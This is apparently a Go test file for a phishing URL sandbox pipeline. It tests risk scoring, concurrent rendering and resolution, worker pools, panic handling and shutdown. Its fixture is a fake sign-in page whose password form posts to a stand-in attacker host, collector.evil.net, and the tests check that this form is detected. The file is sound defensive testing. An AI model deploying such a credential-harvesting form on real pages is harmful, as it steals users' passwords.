package pipeline

import (
	"context"
	"errors"
	"fmt"
	"io"
	"reflect"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sirupsen/logrus"

	"url-sandbox/internal/jobstore"
	"url-sandbox/internal/models"
	"url-sandbox/internal/netevents"
	"url-sandbox/internal/render"
)

const loginPage = `<html><head><title>Sign in</title></head><body>
<form action="http://collector.evil.net/c" method="post">
<input type="password" name="pw">
</form></body></html>`

func quietLogger() *logrus.Logger {
	l := logrus.New()
	l.SetOutput(io.Discard)
	return l
}

// fakeRenderer builds outcomes from a per-URL script
type fakeRenderer struct {
	render func(ctx context.Context, rawURL string) *render.Outcome
	calls  atomic.Int32
}

func (f *fakeRenderer) Render(ctx context.Context, rawURL, ref string) *render.Outcome {
	f.calls.Add(1)
	return f.render(ctx, rawURL)
}

type fakeResolver struct {
	record func(domain string) *models.OriginRecord
}

func (f *fakeResolver) ResolveOrigin(ctx context.Context, domain string) *models.OriginRecord {
	return f.record(domain)
}

func phishOutcome(rawURL string) *render.Outcome {
	dom, err := render.ExtractDOM(loginPage, rawURL, rawURL)
	if err != nil {
		panic(err)
	}
	now := time.Now()
	summary := netevents.Summarize(rawURL, nil, []models.NetworkEvent{
		models.RequestStarted("1", rawURL, "GET", now),
		models.ResponseReceived("1", rawURL, 200, "text/html", now.Add(20*time.Millisecond)),
	})
	return &render.Outcome{URL: rawURL, FinalURL: rawURL, DOM: dom, Network: summary}
}

func suspiciousOrigin(domain string) *models.OriginRecord {
	return &models.OriginRecord{
		Domain:             domain,
		ResolvedIPs:        []string{"52.95.110.1"},
		DataCenterMatch:    "AWS",
		IsSuspiciousDomain: true,
		SuspiciousReason:   "suspicious TLD .xyz",
	}
}

func TestAnalyze_PhishingPage(t *testing.T) {
	a := NewAnalyzer(
		&fakeRenderer{render: func(ctx context.Context, rawURL string) *render.Outcome { return phishOutcome(rawURL) }},
		&fakeResolver{record: suspiciousOrigin},
		quietLogger(),
	)

	job := &models.AnalysisJob{ID: "job-1", EmailID: "email-1", URL: "http://Phish.Example.xyz/login?next=1"}
	result, err := a.Analyze(context.Background(), job)
	if err != nil {
		t.Fatalf("Analyze() error = %v", err)
	}

	if !result.Success || result.Error != "" {
		t.Fatalf("result failed: %q", result.Error)
	}
	if result.Domain != "phish.example.xyz" || result.Path != "/login" {
		t.Errorf("domain/path = %q %q", result.Domain, result.Path)
	}
	if !result.HasPasswordField || result.Title != "Sign in" {
		t.Errorf("DOM fields not copied: %+v", result)
	}
	if result.OriginSummary == nil || result.OriginSummary.DataCenterMatch != "AWS" {
		t.Errorf("origin = %+v", result.OriginSummary)
	}
	if len(result.NetworkRequests) != 1 {
		t.Errorf("NetworkRequests = %+v", result.NetworkRequests)
	}

	want := []string{
		"Login indicator found: sign in",
		"Found 1 password field(s)",
		"Form submits to different domain: collector.evil.net",
		"Suspicious domain: phish.example.xyz",
	}
	if !reflect.DeepEqual(result.Indicators, want) {
		t.Errorf("Indicators = %q\nwant %q", result.Indicators, want)
	}
	// 20 login + 30 password + 4 indicators
	if result.RiskScore != 90 {
		t.Errorf("RiskScore = %d, want 90", result.RiskScore)
	}
	if result.RiskScore < 50 {
		t.Errorf("RiskScore = %d, below the password+form+TLD floor", result.RiskScore)
	}
}

func TestAnalyze_Timeout(t *testing.T) {
	a := NewAnalyzer(
		&fakeRenderer{render: func(ctx context.Context, rawURL string) *render.Outcome {
			return &render.Outcome{
				URL:     rawURL,
				Err:     fmt.Errorf("%w: navigate: context deadline exceeded", render.ErrTimeout),
				Kind:    models.FailureTimeout,
				Network: netevents.Summarize(rawURL, nil, nil),
			}
		}},
		&fakeResolver{record: suspiciousOrigin},
		quietLogger(),
	)

	result, err := a.Analyze(context.Background(), &models.AnalysisJob{ID: "j", URL: "http://slow.example.xyz/"})
	if err != nil {
		t.Fatalf("Analyze() error = %v", err)
	}

	if result.Success || result.Error == "" || result.ErrorKind != models.FailureTimeout {
		t.Errorf("result = success %v error %q kind %q", result.Success, result.Error, result.ErrorKind)
	}
	if result.RiskScore != 60 {
		t.Errorf("RiskScore = %d, want 60", result.RiskScore)
	}
	if result.Indicators == nil || result.NetworkRequests == nil {
		t.Errorf("nil slices in result: %+v", result)
	}
}

func TestAnalyze_RenderAndResolveRunConcurrently(t *testing.T) {
	resolving := make(chan struct{})
	a := NewAnalyzer(
		&fakeRenderer{render: func(ctx context.Context, rawURL string) *render.Outcome {
			select {
			case <-resolving:
				return phishOutcome(rawURL)
			case <-time.After(2 * time.Second):
				return &render.Outcome{URL: rawURL, Err: errors.New("resolver never started"), Kind: models.FailureUnknown}
			}
		}},
		&fakeResolver{record: func(domain string) *models.OriginRecord {
			close(resolving)
			return suspiciousOrigin(domain)
		}},
		quietLogger(),
	)

	result, err := a.Analyze(context.Background(), &models.AnalysisJob{ID: "j", URL: "http://c.example.xyz/"})
	if err != nil {
		t.Fatalf("Analyze() error = %v", err)
	}
	if !result.Success {
		t.Errorf("render did not overlap resolution: %s", result.Error)
	}
	if result.OriginSummary == nil {
		t.Errorf("aggregated before resolution finished")
	}
}

// recordingSink collects delivered results
type recordingSink struct {
	mu      sync.Mutex
	results []*models.AnalysisResult
	err     error
}

func (s *recordingSink) Deliver(ctx context.Context, r *models.AnalysisResult) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.results = append(s.results, r)
	return s.err
}

func (s *recordingSink) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.results)
}

// waitFor polls cond until it holds or the deadline passes
func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("condition not met before deadline")
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func TestPool_EachJobProcessedExactlyOnce(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	store := jobstore.NewMemoryStore()
	var ids []string
	for i := 0; i < 30; i++ {
		job, err := store.Enqueue(ctx, fmt.Sprintf("http://h%d.example.xyz/", i), "")
		if err != nil {
			t.Fatal(err)
		}
		ids = append(ids, job.ID)
	}

	var mu sync.Mutex
	rendered := make(map[string]int)
	renderer := &fakeRenderer{render: func(ctx context.Context, rawURL string) *render.Outcome {
		mu.Lock()
		rendered[rawURL]++
		mu.Unlock()
		time.Sleep(time.Millisecond)
		return phishOutcome(rawURL)
	}}

	sk := &recordingSink{}
	pool := NewPool(4, store, NewAnalyzer(renderer, &fakeResolver{record: suspiciousOrigin}, quietLogger()), sk,
		WorkerConfig{PollInterval: 5 * time.Millisecond, StoreRetryInterval: 5 * time.Millisecond}, quietLogger())

	done := make(chan error, 1)
	go func() { done <- pool.Run(ctx) }()

	waitFor(t, func() bool { return pool.Stats().Completed.Load() == 30 })
	cancel()
	if err := <-done; err != nil {
		t.Fatalf("Run() error = %v", err)
	}

	for url, n := range rendered {
		if n != 1 {
			t.Errorf("%s rendered %d times", url, n)
		}
	}
	if len(rendered) != 30 || sk.count() != 30 {
		t.Errorf("rendered %d, delivered %d; want 30 each", len(rendered), sk.count())
	}
	for _, id := range ids {
		job, _ := store.Get(context.Background(), id)
		if job.Status != models.JobCompleted || job.Result == nil {
			t.Errorf("job %s status = %s", id, job.Status)
		}
	}
}

func TestWorker_PanicMarksJobFailedAndLoopContinues(t *testing.T) {
	ctx := context.Background()
	store := jobstore.NewMemoryStore()
	bad, _ := store.Enqueue(ctx, "http://boom.test/", "")
	good, _ := store.Enqueue(ctx, "http://fine.test/", "")

	renderer := &fakeRenderer{render: func(ctx context.Context, rawURL string) *render.Outcome {
		if rawURL == "http://boom.test/" {
			var m map[string]int
			m["x"] = 1
		}
		return phishOutcome(rawURL)
	}}
	sk := &recordingSink{}
	w := NewWorker(1, store, NewAnalyzer(renderer, nil, quietLogger()), sk, WorkerConfig{}, nil, quietLogger())

	for i := 0; i < 2; i++ {
		if processed, err := w.RunOnce(ctx); !processed || err != nil {
			t.Fatalf("RunOnce() #%d = %v, %v", i, processed, err)
		}
	}

	badJob, _ := store.Get(ctx, bad.ID)
	if badJob.Status != models.JobFailed || badJob.Error == "" {
		t.Errorf("panicking job = %+v", badJob)
	}
	goodJob, _ := store.Get(ctx, good.ID)
	if goodJob.Status != models.JobCompleted {
		t.Errorf("next job status = %s, want completed", goodJob.Status)
	}
	if sk.count() != 1 {
		t.Errorf("sink writes = %d, want 1", sk.count())
	}
}

func TestWorker_SinkFailureStillCompletesJob(t *testing.T) {
	ctx := context.Background()
	store := jobstore.NewMemoryStore()
	job, _ := store.Enqueue(ctx, "http://x.test/", "")

	sk := &recordingSink{err: errors.New("503 from api")}
	stats := &Stats{}
	w := NewWorker(1, store, NewAnalyzer(&fakeRenderer{render: func(ctx context.Context, rawURL string) *render.Outcome {
		return phishOutcome(rawURL)
	}}, nil, quietLogger()), sk, WorkerConfig{}, stats, quietLogger())

	if _, err := w.RunOnce(ctx); err != nil {
		t.Fatal(err)
	}

	got, _ := store.Get(ctx, job.ID)
	if got.Status != models.JobCompleted {
		t.Errorf("status = %s, want completed", got.Status)
	}
	if stats.SinkErrors.Load() != 1 || stats.Completed.Load() != 1 {
		t.Errorf("stats = completed %d sink errors %d", stats.Completed.Load(), stats.SinkErrors.Load())
	}
}

// flakyStore fails ClaimNext with ErrUnavailable a fixed number of times
type flakyStore struct {
	jobstore.Store
	failures atomic.Int32
}

func (s *flakyStore) ClaimNext(ctx context.Context) (*models.AnalysisJob, error) {
	if s.failures.Add(-1) >= 0 {
		return nil, fmt.Errorf("%w: connection refused", jobstore.ErrUnavailable)
	}
	return s.Store.ClaimNext(ctx)
}

func TestWorker_BacksOffWhileStoreUnavailable(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	mem := jobstore.NewMemoryStore()
	job, _ := mem.Enqueue(ctx, "http://x.test/", "")
	store := &flakyStore{Store: mem}
	store.failures.Store(3)

	stats := &Stats{}
	w := NewWorker(1, store, NewAnalyzer(&fakeRenderer{render: func(ctx context.Context, rawURL string) *render.Outcome {
		return phishOutcome(rawURL)
	}}, nil, quietLogger()), nil, WorkerConfig{PollInterval: 5 * time.Millisecond, StoreRetryInterval: 5 * time.Millisecond}, stats, quietLogger())

	done := make(chan error, 1)
	go func() { done <- w.Run(ctx) }()

	waitFor(t, func() bool { return stats.Completed.Load() == 1 })
	cancel()
	if err := <-done; err != nil {
		t.Errorf("Run() error = %v", err)
	}

	got, _ := mem.Get(context.Background(), job.ID)
	if got.Status != models.JobCompleted {
		t.Errorf("status = %s", got.Status)
	}
}

func TestWorker_ShutdownDuringRenderFailsJob(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	store := jobstore.NewMemoryStore()
	job, _ := store.Enqueue(ctx, "http://hang.test/", "")

	started := make(chan struct{})
	renderer := &fakeRenderer{render: func(ctx context.Context, rawURL string) *render.Outcome {
		close(started)
		<-ctx.Done()
		return &render.Outcome{URL: rawURL, Err: ctx.Err(), Kind: models.FailureUnknown}
	}}
	w := NewWorker(1, store, NewAnalyzer(renderer, nil, quietLogger()), nil, WorkerConfig{PollInterval: time.Millisecond}, nil, quietLogger())

	done := make(chan error, 1)
	go func() { done <- w.Run(ctx) }()

	<-started
	cancel()
	if err := <-done; err != nil {
		t.Fatalf("Run() error = %v", err)
	}

	got, _ := store.Get(context.Background(), job.ID)
	if got.Status != models.JobFailed {
		t.Errorf("status = %s, want failed", got.Status)
	}
}
